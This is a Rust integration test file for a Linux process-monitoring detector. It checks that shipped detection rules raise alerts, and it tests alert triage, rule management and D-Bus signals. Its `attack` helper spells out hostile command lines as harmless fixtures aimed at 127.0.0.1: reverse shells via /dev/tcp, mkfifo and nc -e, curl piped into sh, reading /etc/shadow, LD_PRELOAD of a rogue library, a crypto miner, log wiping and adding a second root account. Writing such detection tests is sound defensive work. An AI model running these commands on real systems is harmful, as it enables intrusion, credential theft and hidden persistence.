//! Rules that fire on real processes, and what people do with the alerts.

mod directories;

use std::collections::HashSet;
use std::fs;
use std::os::unix::fs::MetadataExt as _;
use std::os::unix::process::CommandExt as _;
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use common::alert::{Alert, Status};
use common::rule::{RuleInfo, RuleState};

use crate::client::{Client, capture, connect, runtime};
use crate::programs::WORKLOAD;
use crate::recorder::{LOSSLESS, Recorder, wait_for};
use crate::scratch::Scratch;
use crate::storm;
use crate::workload::{finish, run, start, workload};

/// Rules that come with the program, by the id that must fire.
macro_rules! shipped {
    ($($file:literal $id:literal),* $(,)?) => {
        [$(($file, $id, include_str!(concat!("../../../rules/", $file, ".yml")))),*]
    };
}

const SHIPPED: &[(&str, &str, &str)] = &shipped![
    "execution/program-in-temporary-directory" "7d829fe1-f3e4-46da-9c93-81faa85ff570",
    "execution/memory-only-executable" "5eacfbf3-5ae7-462c-b60f-4eba780437dd",
    "execution/download-piped-into-interpreter" "49381863-519a-4f28-8811-9d2e65dfac78",
    "stealth/deleted-executable" "48c5e3e2-93d0-4271-b152-0b328e175a75",
    "stealth/posing-as-kernel-thread" "fe62c968-23a6-4778-b218-452475a6b217",
    "command-and-control/netcat-hands-out-shell" "663d274b-d2e2-4ec8-bb96-b19905d99a49",
    "command-and-control/shell-over-network-redirection" "c406c889-b566-4939-9328-61b09c1681c3",
    "command-and-control/named-pipe-shell-line" "0904676b-650b-47b3-a597-ceb499389adc",
    "privilege-escalation/setuid-bit-set" "7464cf23-010d-48ae-9424-08200b1d20b3",
    "privilege-escalation/preload-from-writable-directory" "3d9b5dc4-34a3-4ba5-947d-df0ed5db4d88",
    "credential-access/password-hashes-read" "c8ef6436-a895-4771-81b4-308dbe8691f6",
    "impact/cryptocurrency-miner" "ea1aa26f-38fb-43a5-8aba-e9dfa03350bf",
    "defense-impairment/logs-wiped" "a3bd25df-f6a9-4fff-96ad-540d07764784",
    "persistence/second-root-account" "5cf330ee-decb-40b4-8d40-0c2bd609faa1",
    "discovery/reconnaissance-burst" "9c41a534-de3e-4c2b-a79c-d12faec7d930",
];

/// A rule of our own for these tests.
fn rule(id: &str, title: &str, word: &str) -> String {
    format!(
        "title: {title}\nid: {id}\nlevel: high\nauthor: A. Uthor\ntags: [attack.t1059]\n\
         falsepositives: [Tests]\nlogsource: {{category: process_creation, product: linux}}\n\
         detection:\n  by_word:\n    CommandLine|contains: {word}\n  condition: by_word\n"
    )
}

const FIRST: &str = "11111111-1111-4111-8111-111111111111";
const SECOND: &str = "22222222-2222-4222-8222-222222222222";

/// A recorder whose rules are only those of the test.
fn recorder(scratch: &Scratch, options: &[&str]) -> Option<Recorder> {
    let shipped = scratch.make_dir("shipped").display().to_string();
    let admin = scratch.path().join("admin").display().to_string();
    let mut all = vec!["--shipped-rules", &*shipped, "--admin-rules", &*admin];
    all.extend(LOSSLESS);
    all.extend(options);
    Recorder::start(scratch, &all)
}

fn put(scratch: &Scratch, directory: &str, name: &str, text: &str) -> PathBuf {
    let path = scratch.make_dir(directory).join(name);
    fs::write(&path, text).unwrap();
    path
}

fn alerts(client: &Client, arguments: &[&str]) -> Vec<Alert<'static>> {
    let mut all = vec!["alerts", "--json", "-n", "0"];
    all.extend(arguments);
    client.print(&all).lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn rules(client: &Client) -> Vec<RuleInfo> {
    let out = client.print(&["rules", "list", "--json"]);
    out.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn state_of(client: &Client, id: &str) -> Option<RuleState> {
    rules(client).into_iter().find(|rule| rule.id == id).map(|rule| rule.state)
}

/// A process whose command line has this word.
fn process_with(word: &str) -> u32 {
    run(&["exit", "0", word]).pid
}

/// Runs a program that is a copy of the workload under another name, with any arguments.
fn named(scratch: &Scratch, name: &str, arguments: &[&str]) {
    let program = scratch.copy(&WORKLOAD, name);
    let mut command = Command::new(&program);
    command.args(arguments).env_clear().stdin(Stdio::null());
    // It does not know these arguments, and says so.
    let _ = command.stdout(Stdio::null()).stderr(Stdio::null()).status().unwrap();
}

/// A shell that is told to do it, but leaves before.
fn told_to_shell(line: &str) {
    let line = format!("exit 0; {line}");
    let mut command = Command::new("/bin/sh");
    command.args(["-c", &line]).env_clear().stdin(Stdio::null());
    assert!(command.status().unwrap().success());
}

fn attack(scratch: &Scratch) {
    named(scratch, "dropped", &["exit", "0"]);
    run(&["memfd", "exit", "0"]);
    run(&["deleted", scratch.path().to_str().unwrap(), "exit", "0"]);
    told_to_shell("curl -s http://127.0.0.1:1/x | sh");
    told_to_shell("bash -i >& /dev/tcp/127.0.0.1/1 0>&1");
    told_to_shell(
        "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 1 >/tmp/f",
    );
    let mut thread = workload(&["exit", "0"]);
    thread.arg0("[kworker/0:1]");
    let _ = finish(start(&mut thread));
    named(scratch, "nc", &["-e", "/bin/sh", "127.0.0.1", "1"]);
    named(scratch, "chmod", &["u+s", "/tmp/shell"]);
    let mut preloaded = workload(&["exit", "0"]);
    preloaded.env("LD_PRELOAD", "/tmp/evil.so");
    let _ = finish(start(&mut preloaded));
    named(scratch, "cat", &["/etc/shadow"]);
    named(scratch, "xmrig", &["-o", "stratum+tcp://127.0.0.1:3333", "-u", "wallet"]);
    named(scratch, "rm", &["-rf", "/var/log/auth.log", "/var/log/syslog"]);
    named(scratch, "useradd", &["-o", "-u", "0", "toor"]);
    for tool in ["whoami", "id", "hostname", "uname", "w", "last", "lscpu", "ifconfig"] {
        named(scratch, tool, &[]);
    }
}

#[test]
fn a_dozen_attacks_are_told() {
    let scratch = Scratch::new();
    for (index, (_, _, text)) in SHIPPED.iter().enumerate() {
        put(&scratch, "shipped", &format!("{index}.yml"), text);
    }
    let Some(recorder) = recorder(&scratch, &[]) else { return };
    attack(&scratch);
    // A recorder that is behind answers with what it has.
    recorder.client.balanced_health();
    let found: HashSet<String> =
        alerts(&recorder.client, &[]).into_iter().map(|alert| alert.rule.id).collect();
    let missing: Vec<&str> =
        SHIPPED.iter().filter(|(_, id, _)| !found.contains(*id)).map(|(file, ..)| *file).collect();
    assert!(missing.is_empty(), "no alert of {missing:?}");
    recorder.client.assert_lossless();
    recorder.stop();
}

#[test]
fn an_alert_keeps_what_was_and_is_triaged() {
    let scratch = Scratch::new();
    put(&scratch, "admin", "a.yml", &rule(FIRST, "By a word", "wordOne"));
    let Some(recorder) = recorder(&scratch, &[]) else { return };
    let client = &recorder.client;
    let pid = process_with("wordone");
    let [alert] = &alerts(client, &[])[..] else { panic!("not one alert") };
    assert_eq!((alert.event.process.pid, &*alert.event.event.kind), (pid, "alert"));
    assert_eq!((&*alert.rule.id, &*alert.rule.name), (FIRST, "By a word"));
    assert_eq!(alert.rule.author.as_deref(), Some("A. Uthor"));
    assert_eq!(alert.alert.selections, ["by_word"]);
    let field = &alert.alert.fields[0];
    let [start, end] = field.ranges[0];
    assert_eq!(&field.value.as_ref().unwrap()[start..end], "wordone");
    let parent = &alert.alert.ancestors[0];
    assert_eq!(parent.process.pid, std::process::id());

    // What becomes of the rule later does not change what was.
    put(&scratch, "admin", "a.yml", &rule(FIRST, "Something else", "other"));
    let title = || rules(client).into_iter().find(|rule| rule.id == FIRST).unwrap().title;
    wait_for("the rule to be read again", || (title() == "Something else").then_some(()));
    let id = alert.alert.id.to_string();
    let explained = client.print(&["alerts", "explain", &id]);
    assert!(explained.contains("title: By a word") && explained.contains("»wordone«"));

    let set = ["alerts", "set", &id, "--status", "false-positive", "--note", "only a test"];
    assert!(client.print(&set).contains("1 alert"));
    assert!(alerts(client, &[]).is_empty(), "closed ones are not shown");
    let [alert] = &alerts(client, &["--status", "all"])[..] else { panic!("not one alert") };
    assert_eq!(alert.alert.status, Status::FalsePositive);
    let change = &alert.alert.history[0];
    assert_eq!((change.uid, change.user.as_deref()), (0, Some("root")));
    assert_eq!(alert.alert.note.as_deref(), Some("only a test"));
    recorder.stop();
}

#[test]
fn repeats_are_counted_on_one_alert_also_after_a_restart() {
    let scratch = Scratch::new();
    put(&scratch, "admin", "a.yml", &rule(FIRST, "By a word", "wordone"));
    let Some(first) = recorder(&scratch, &[]) else { return };
    for _ in 0..3 {
        process_with("wordone");
    }
    process_with("wordone-with-another-line");
    let counts = |client: &Client| -> Vec<u64> {
        alerts(client, &["--status", "all"]).iter().map(|alert| alert.alert.count).collect()
    };
    assert_eq!(counts(&first.client), [3, 1]);
    first.stop();
    let second = recorder(&scratch, &[]).unwrap();
    process_with("wordone");
    assert_eq!(counts(&second.client), [4, 1]);
    // That it happens again after somebody called it done is news.
    second.client.print(&["alerts", "set", "1", "--status", "resolved"]);
    process_with("wordone");
    assert_eq!(counts(&second.client), [4, 1, 1]);
    second.stop();
    let each = recorder(&scratch, &["--alert-repeat", "0s"]).unwrap();
    process_with("wordone");
    process_with("wordone");
    assert_eq!(counts(&each.client), [4, 1, 1, 1, 1]);
    each.stop();
}

#[test]
fn rules_are_uploaded_switched_and_removed_and_stay_so() {
    let scratch = Scratch::new();
    let Some(first) = recorder(&scratch, &[]) else { return };
    let client = &first.client;
    let both = format!("{}---\n{}", rule(FIRST, "One", "wordone"), rule(SECOND, "Two", "wordtwo"));
    let file = put(&scratch, "mine", "both.yml", &both);
    client.print(&["rules", "upload", file.to_str().unwrap()]);
    process_with("wordone");
    process_with("wordtwo");
    assert_eq!(alerts(client, &[]).len(), 2);
    assert!(client.print(&["rules", "disable", "Tw*"]).contains("1 rule"));
    process_with("wordtwo-again");
    assert_eq!(alerts(client, &[]).len(), 2);
    first.stop();

    let second = recorder(&scratch, &[]).unwrap();
    let client = &second.client;
    assert_eq!(state_of(client, FIRST), Some(RuleState::Active));
    assert_eq!(state_of(client, SECOND), Some(RuleState::Disabled));
    client.print(&["rules", "upload", file.to_str().unwrap()]);
    assert_eq!(state_of(client, SECOND), Some(RuleState::Disabled), "after uploading it again");
    client.print(&["rules", "enable", "tag:attack.t1059"]);
    process_with("wordtwo-again");
    assert_eq!(alerts(client, &[]).len(), 3);
    client.print(&["rules", "remove", FIRST]);
    assert_eq!(
        (state_of(client, FIRST), state_of(client, SECOND)),
        (None, Some(RuleState::Active))
    );
    client.print(&["rules", "remove", SECOND]);
    assert!(rules(client).is_empty());
    assert!(fs::read_dir(scratch.data().join("rules")).unwrap().next().is_none());
    second.stop();
}

/// What somebody put in the way meanwhile does not change hands.
#[test]
fn rules_go_over_to_another_user_and_nothing_else_does() {
    let Some(other) = nix::unistd::User::from_uid(nix::unistd::Uid::from_raw(1)).unwrap() else {
        println!("skipped: there is no user with the number 1");
        return;
    };
    let scratch = Scratch::new();
    let file = put(&scratch, "mine", "a.yml", &rule(FIRST, "One", "wordone"));
    let upload = ["rules", "upload", file.to_str().unwrap()];
    let Some(first) = recorder(&scratch, &["--user", "nobody"]) else { return };
    first.client.print(&upload);
    first.stop();
    let stranger = scratch.path().join("stranger");
    fs::write(&stranger, "").unwrap();
    let rules_dir = scratch.data().join("rules");
    std::os::unix::fs::symlink(&stranger, rules_dir.join("link.yml")).unwrap();
    fs::hard_link(&stranger, rules_dir.join("hard.yml")).unwrap();

    let second = recorder(&scratch, &["--user", &other.name]).unwrap();
    assert_eq!(state_of(&second.client, FIRST), Some(RuleState::Active));
    second.client.print(&upload);
    assert_eq!(fs::metadata(&stranger).unwrap().uid(), 0);
    assert_eq!(fs::metadata(rules_dir.join("a.yml")).unwrap().uid(), 1);
    second.stop();
}

#[test]
fn unusable_rules_are_told_and_leave_the_rest_alone() {
    let scratch = Scratch::new();
    let good = rule(FIRST, "Good", "wordone");
    put(&scratch, "shipped", "a.yml", &rule(FIRST, "Shipped", "other"));
    put(&scratch, "admin", "a.yml", &format!("{good}---\ntitle: [\n"));
    put(&scratch, "admin", "bomb.yml", "a: &a [x, x]\nb: [*a, *a]\n");
    put(
        &scratch,
        "admin",
        "sshd.yml",
        &good.replace("category: process_creation", "service: sshd").replace(FIRST, SECOND),
    );
    fs::write(scratch.make_dir("admin").join("binary.yml"), [0xff, 0xfe]).unwrap();
    let Some(recorder) = recorder(&scratch, &[]) else { return };
    let client = &recorder.client;
    process_with("wordone");
    assert_eq!(alerts(client, &[]).len(), 1);
    let all = rules(client);
    let reason = |file: &str, document: u32| {
        let found = all.iter().find(|rule| rule.file == file && rule.document == document);
        let found = found.unwrap_or_else(|| panic!("{file} is not listed"));
        (found.state, found.reason.clone().unwrap_or_default())
    };
    let (state, text) = reason("a.yml", 2);
    assert!(state == RuleState::Unusable && text.contains("line "), "{text}");
    assert!(reason("bomb.yml", 1).1.contains("anchors"));
    assert!(reason("binary.yml", 1).1.contains("not UTF-8"));
    assert_eq!(reason("sshd.yml", 1).0, RuleState::Inert);
    assert!(all.iter().any(|rule| rule.state == RuleState::Overridden));
    recorder.stop();
}

#[test]
fn what_happened_before_can_be_searched_with_a_rule() {
    let scratch = Scratch::new();
    let Some(recorder) = recorder(&scratch, &[]) else { return };
    let client = &recorder.client;
    for _ in 0..3 {
        process_with("wordone");
    }
    process_with("wordone-once");
    let file = put(&scratch, "mine", "a.yml", &rule(FIRST, "One", "wordone"));
    let found = client.print(&["rules", "test", file.to_str().unwrap()]);
    assert!(found.contains("would have fired 4 times") && found.contains("2 command lines"));
    let narrowed = ["rules", "test", file.to_str().unwrap(), "cmd ~ once"];
    assert!(client.print(&narrowed).contains("would have fired 1 time"));
    assert!(alerts(client, &[]).is_empty(), "a search raises nothing");
    recorder.stop();
}

/// Two rules that fire on the same events: a set that was taken over by halves would show as an
/// event that only one of them saw.
#[test]
fn changing_rules_under_load_loses_nothing_and_is_never_halfway() {
    let scratch = Scratch::new();
    let pair = |number: u32| {
        let id = |rule: u32| format!("{number:08}-1111-4111-8111-{rule:012}");
        // One of ten, so that most of the work is not that of raising alerts.
        let one_of_ten =
            |text: String| text.replace("contains: storm-child", "re: 'storm-child \\d*5$'");
        one_of_ten(format!(
            "{}---\n{}",
            rule(&id(1), &format!("Left {number}"), "storm-child"),
            rule(&id(2), &format!("Right {number}"), "storm-child")
        ))
    };
    put(&scratch, "shipped", "other.yml", &rule(FIRST, "Other", "wordone"));
    let Some(recorder) = recorder(&scratch, &["--alert-repeat", "0s"]) else { return };
    let client = &recorder.client;
    let is_over = AtomicBool::new(false);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !is_over.load(Ordering::Relaxed) {
                storm::run(200);
            }
        });
        for number in 1..=6 {
            let file = put(&scratch, "mine", "pair.yml", &pair(number));
            client.print(&["rules", "upload", file.to_str().unwrap()]);
            client.print(&["rules", if number % 2 == 0 { "enable" } else { "disable" }, "Other"]);
        }
        is_over.store(true, Ordering::Relaxed);
    });
    let mut sides: std::collections::HashMap<u64, Vec<String>> = std::collections::HashMap::new();
    for alert in alerts(client, &["--status", "all", "--rule", "*"]) {
        let row = alert.event.event.sequence.cast_unsigned();
        sides.entry(row).or_default().push(alert.rule.name);
    }
    assert!(!sides.is_empty(), "no rule fired");
    for (row, mut names) in sides {
        names.sort();
        let (left, right) = (names[0].strip_prefix("Left "), names[1].strip_prefix("Right "));
        assert!(names.len() == 2 && left.is_some() && left == right, "{row}: {names:?}");
    }
    client.assert_lossless();
    recorder.stop();
}

#[test]
fn a_hundred_reloads_leave_no_memory_behind() {
    let scratch = Scratch::new();
    for (index, (_, _, text)) in SHIPPED.iter().enumerate() {
        put(&scratch, "shipped", &format!("{index}.yml"), text);
    }
    let Some(recorder) = recorder(&scratch, &[]) else { return };
    let client = &recorder.client;
    let reload = |times: u32| {
        for number in 0..times {
            client.print(&["rules", if number % 2 == 0 { "disable" } else { "enable" }, "*"]);
        }
        capture(&client.health()).resident_bytes
    };
    let before = reload(20);
    let after = reload(100);
    let grown = after.saturating_sub(before);
    assert!(grown < 8 << 20, "{before} bytes before, {after} after");
    recorder.stop();
}

#[test]
fn alerts_are_followed() {
    let scratch = Scratch::new();
    put(&scratch, "admin", "a.yml", &rule(FIRST, "By a word", "wordone"));
    let Some(recorder) = recorder(&scratch, &[]) else { return };
    let client = &recorder.client;
    process_with("wordone");
    let mut follower =
        client.command(&["alerts", "--follow", "--json"]).stdout(Stdio::piped()).spawn().unwrap();
    let lines = lines_of(follower.stdout.take().unwrap());
    let next = || -> Alert<'static> {
        let line = lines.recv_timeout(Duration::from_secs(60)).expect("an alert");
        serde_json::from_str(&line).unwrap()
    };
    assert_eq!(next().alert.id, 1, "the one that was there");
    let pid = process_with("wordone-next");
    let alert = next();
    assert_eq!((alert.alert.id, alert.event.process.pid), (2, pid));
    client.print(&["alerts", "set", "2", "--note", "seen"]);
    assert_eq!(next().alert.note.as_deref(), Some("seen"));
    let _ = follower.kill();
    let _ = follower.wait();
    recorder.stop();
}

/// A signal says that there is something, and nothing of what it is.
#[test]
fn signals_come_to_clients_of_the_socket() {
    use futures_lite::StreamExt as _;

    let scratch = Scratch::new();
    put(&scratch, "admin", "a.yml", &rule(FIRST, "By a word", "wordone"));
    let Some(recorder) = recorder(&scratch, &[]) else { return };
    runtime().block_on(async {
        let connection = connect(&scratch.bus()).await;
        let alerts = common::bus::AlertsProxy::new(&connection).await.unwrap();
        let rules = common::bus::RulesProxy::new(&connection).await.unwrap();
        let mut raised = alerts.receive_raised().await.unwrap();
        let mut updated = alerts.receive_updated().await.unwrap();
        let mut changed = rules.receive_changed().await.unwrap();
        // So that the recorder has seen the connection.
        assert_eq!(rules.list().await.unwrap().matches(FIRST).count(), 1);
        process_with("wordone");
        let signal = raised.next().await.unwrap();
        let args = signal.args().unwrap();
        assert_eq!((args.id, args.rule_id, args.level), (1, FIRST, "high"));
        assert_eq!(alerts.set(&[1], "in_progress", "").await.unwrap(), 1);
        assert_eq!(updated.next().await.unwrap().args().unwrap().id, 1);
        let affected = rules.set_enabled(&[FIRST], false).await.unwrap();
        assert_eq!((affected.meant, affected.changed), (1, 1));
        changed.next().await.unwrap();
    });
    recorder.stop();
}

/// Nothing else happens meanwhile that those who follow would have to wait for.
#[test]
fn a_change_is_followed_once_it_is_stored() {
    let scratch = Scratch::new();
    put(&scratch, "admin", "a.yml", &rule(FIRST, "By a word", "wordone"));
    let Some(recorder) = recorder(&scratch, &[]) else { return };
    process_with("wordone");
    let line = runtime().block_on(async {
        let connection = connect(&scratch.bus()).await;
        let alerts = common::bus::AlertsProxy::new(&connection).await.unwrap();
        let pipe = alerts.subscribe("", &Default::default(), 0).await.unwrap();
        alerts.get(1).await.unwrap();
        let other = rusqlite::Connection::open(scratch.database()).unwrap();
        other.execute_batch("BEGIN IMMEDIATE").unwrap();
        let unlock = async {
            tokio::time::sleep(Duration::from_secs(1)).await;
            other.execute_batch("ROLLBACK").unwrap();
        };
        let (changed, ()) = tokio::join!(alerts.set(&[1], "in_progress", ""), unlock);
        assert_eq!(changed.unwrap(), 1);
        let mut line = String::new();
        let pipe = fs::File::from(std::os::fd::OwnedFd::from(pipe));
        std::io::BufRead::read_line(&mut std::io::BufReader::new(pipe), &mut line).unwrap();
        line
    });
    let alert: Alert<'_> = serde_json::from_str(&line).unwrap();
    assert_eq!(alert.alert.status, common::alert::Status::InProgress);
    recorder.stop();
}

fn lines_of(out: std::process::ChildStdout) -> std::sync::mpsc::Receiver<String> {
    use std::io::{BufRead as _, BufReader};
    let (sender, receiver) = std::sync::mpsc::sync_channel(64);
    std::thread::spawn(move || {
        for line in BufReader::new(out).lines().map_while(Result::ok) {
            if sender.send(line).is_err() {
                return;
            }
        }
    });
    receiver
}

/// What a recorder leaves behind is still there for whoever examines it elsewhere.
#[test]
fn alerts_of_a_recorded_database_are_shown() {
    let scratch = Scratch::new();
    put(&scratch, "admin", "a.yml", &rule(FIRST, "By a word", "wordone"));
    let Some(recorder) = recorder(&scratch, &[]) else { return };
    process_with("wordone");
    assert_eq!(alerts(&recorder.client, &[]).len(), 1);
    recorder.stop();
    let bus = scratch.path().join("open");
    let mut server = Command::new(&*crate::programs::RECORDERD)
        .arg("open")
        .arg(scratch.database())
        .arg("--bus")
        .arg(format!("unix:path={}", bus.display()))
        .env_clear()
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let client = Client::new(&bus);
    wait_for("the database to be served", || {
        client.run(&["status"]).status.success().then_some(())
    });
    assert_eq!(alerts(&client, &[]).len(), 1);
    let file = put(&scratch, "mine", "a.yml", &rule(FIRST, "One", "wordone"));
    let found = client.print(&["rules", "test", file.to_str().unwrap()]);
    assert!(found.contains("would have fired 1 time"), "{found}");
    let refused = client.ask(&["alerts", "set", "1", "--status", "resolved"]);
    assert_eq!(refused.status, Some(1));
    let _ = server.kill();
    let _ = server.wait();
}
